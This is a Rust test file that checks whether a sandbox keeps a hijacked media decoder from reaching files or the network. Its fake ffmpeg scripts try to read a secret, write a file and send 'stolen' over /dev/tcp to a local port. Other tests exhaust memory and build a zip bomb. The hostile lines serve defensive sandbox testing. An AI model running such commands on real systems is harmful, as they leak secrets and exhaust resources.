//! Files of strangers are read behind a fence: a decoder that was taken over reaches no key, no network and no other file.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used)]

use publisher::{
    piped::{Ended, Fenced},
    preview::{Apart, Converter},
};
use std::{fs, io::Write, os::unix::fs::PermissionsExt, path::Path, process::Command, time::Duration};
use units::Refusal;

fn reader() -> Apart {
    Apart::by(env!("CARGO_BIN_EXE_keyfare").into(), ["read-upload".into()])
}

fn program(dir: &Path, does: &str) -> Converter {
    let path = dir.join("ffmpeg");
    fs::write(&path, format!("#!/bin/sh\n{does}\n")).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    Converter::at(path)
}

/// A film by its first bytes; what plays it is up to the test.
fn film(dir: &Path) -> std::path::PathBuf {
    let path = dir.join("film.mp4");
    fs::write(&path, b"\0\0\0\x20ftypisom and then nothing").unwrap();
    path
}

#[test]
fn a_picture_is_read_by_the_fenced_process() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("picture.txt");
    fs::write(&path, "The last ferry carried eleven passengers. ".repeat(40)).unwrap();
    let preview = reader().derive(&path, None).unwrap();
    assert_eq!(preview.media_type, "text/plain");
    assert!(preview.bytes.starts_with(b"The last ferry"));
    let no = reader().derive(&film(dir.path()), None).unwrap_err();
    assert_eq!(no.code(), "preview-needs-ffmpeg");
}

/// What a player's converter was talked into by a film: the same fence, and pipes instead of any file.
///
/// proves: row-89
#[test]
fn what_a_players_converter_was_talked_into_reaches_no_file_and_no_network() {
    use std::io::Read;
    let usr = tempfile::tempdir_in("/usr/local").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let (secret, out) = (dir.path().join("secret"), dir.path().join("out"));
    fs::write(&secret, "a key").unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let fenced = Fenced::by(env!("CARGO_BIN_EXE_keyfare").into(), ["convert-work".into()]);
    let told = |does: &str| {
        let path = usr.path().join("ffmpeg");
        fs::write(&path, format!("#!/bin/sh\n{does}\n")).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        let most = (30, Duration::from_secs(60));
        let (piped, mut stdin, mut stdout) = fenced.begin(&path, &["-f", "mpeg", "-i", "pipe:0"], most).unwrap();
        let _ = stdin.write_all(b"film");
        drop(stdin);
        let mut said = String::new();
        stdout.read_to_string(&mut said).unwrap();
        (said, piped.end().unwrap())
    };
    let (said, ended) = told("cat; echo \" $*\"");
    assert_eq!(ended, Ended::Well);
    assert!(
        said.starts_with("film -nostdin ") && said.contains("-timelimit 30 -f mpeg -i pipe:0"),
        "{said}"
    );
    let took = format!("cat '{}'", secret.display());
    assert_eq!(told(&took), (String::new(), Ended::Badly));
    let left = format!("echo stolen > '{}'", out.display());
    assert_eq!(told(&left), (String::new(), Ended::Badly));
    assert!(!out.exists());
    let call = format!("/bin/bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}'");
    assert_eq!(told(&call), (String::new(), Ended::Badly));
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "nobody called");
}

// proves: row-89
#[test]
fn what_a_converter_was_talked_into_reaches_no_other_file_and_no_network() {
    // Outside of what programs need to run, where the fence ends; the converter itself must be runnable, hence /usr.
    let usr = tempfile::tempdir_in("/usr/local").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let secret = dir.path().join("secret");
    fs::write(&secret, "a key").unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // A converter that does as it is told after whatever it does before.
    let clip = usr.path().join("clip.mp4");
    let crossing = publisher::demo::works()
        .into_iter()
        .find(|work| work.kind == package::Kind::Video);
    fs::write(&clip, crossing.unwrap().preview.unwrap()).unwrap();
    let told = |before: &str| {
        let (clip, before) = (clip.display(), before.to_owned());
        let does = format!("{before} && case \"$*\" in *libx264*) cat '{clip}' ;; *) printf %0240d 0 ;; esac");
        reader().derive(&film(dir.path()), Some(&program(usr.path(), &does)))
    };
    assert_eq!(told("true").unwrap().media_type, "video/mp4");
    let took = format!("cat '{}'", secret.display());
    assert_eq!(told(&took).unwrap_err().code(), "preview-not-converted");
    let out = dir.path().join("out");
    let left = format!("echo stolen > '{}'", out.display());
    assert_eq!(told(&left).unwrap_err().code(), "preview-not-converted");
    assert!(!out.exists());
    let call = format!("/bin/bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}'");
    assert_eq!(told(&call).unwrap_err().code(), "preview-not-converted");
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "nobody called");
    // The same program without a fence does all of it: the fence is what held.
    assert!(
        Command::new("/bin/sh")
            .args(["-c", &took])
            .output()
            .unwrap()
            .status
            .success()
    );
}

// proves: row-88
#[test]
fn a_file_that_takes_for_ever_or_all_memory_ends_its_reader_alone() {
    let usr = tempfile::tempdir_in("/usr/local").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let sleepy = program(usr.path(), "exec tail -f /dev/null");
    let no = reader()
        .within(Duration::from_millis(500))
        .derive(&film(dir.path()), Some(&sleepy))
        .unwrap_err();
    assert_eq!(no.code(), "preview-reader-ended");
    let greedy = program(usr.path(), "exec head -c 3000000000 /dev/zero | tail -c 2900000000");
    assert!(reader().derive(&film(dir.path()), Some(&greedy)).is_err());
    // An archive of a thousand times its size.
    let bomb = dir.path().join("bomb.epub");
    let mut book = zip::ZipWriter::new(fs::File::create(&bomb).unwrap());
    let plain = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    book.start_file("mimetype", plain).unwrap();
    book.write_all(b"application/epub+zip").unwrap();
    let swell = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    book.start_file("META-INF/container.xml", swell).unwrap();
    let nothing = vec![0; 1 << 20];
    for _ in 0..256 {
        book.write_all(&nothing).unwrap();
    }
    book.finish().unwrap();
    assert!(fs::metadata(&bomb).unwrap().len() < 1 << 20);
    assert_eq!(
        reader().derive(&bomb, None).unwrap_err().code(),
        "preview-to-be-supplied"
    );
}

// proves: XD-2
#[test]
fn films_and_papers_show_a_piece_of_themselves() {
    let dir = tempfile::tempdir().unwrap();
    let film = dir.path().join("film.mp4");
    let crossing = publisher::demo::works()
        .into_iter()
        .find(|work| work.kind == package::Kind::Video)
        .unwrap();
    fs::write(&film, (crossing.bytes)()).unwrap();
    let ffmpeg = Converter::find(&std::env::var_os("PATH").unwrap()).expect("the tools step installs ffmpeg");
    let clip = reader().derive(&film, Some(&ffmpeg)).unwrap();
    assert_eq!(clip.media_type, "video/mp4");
    assert!(
        (10_000..600_000).contains(&clip.bytes.len()),
        "{} bytes",
        clip.bytes.len()
    );
    let book = dir.path().join("book.epub");
    let harbours = publisher::demo::works()
        .into_iter()
        .find(|work| work.file_name.ends_with(".epub"))
        .unwrap();
    fs::write(&book, (harbours.bytes)()).unwrap();
    let words = reader().derive(&book, None).unwrap();
    assert!(
        words.bytes.starts_with(b"Signal Rock"),
        "{:?}",
        String::from_utf8(words.bytes)
    );
    let paper = dir.path().join("paper.pdf");
    fs::write(&paper, PAPER).unwrap();
    let page = reader().derive(&paper, None).unwrap();
    assert_eq!(page.media_type, "image/jpeg");
}

/// A page with a word on it, written by hand.
const PAPER: &[u8] = b"%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 420]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj
4 0 obj<</Length 46>>stream
BT /F1 36 Tf 40 300 Td (Night Ferry) Tj ET    
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Root 1 0 R>>
%%EOF
";
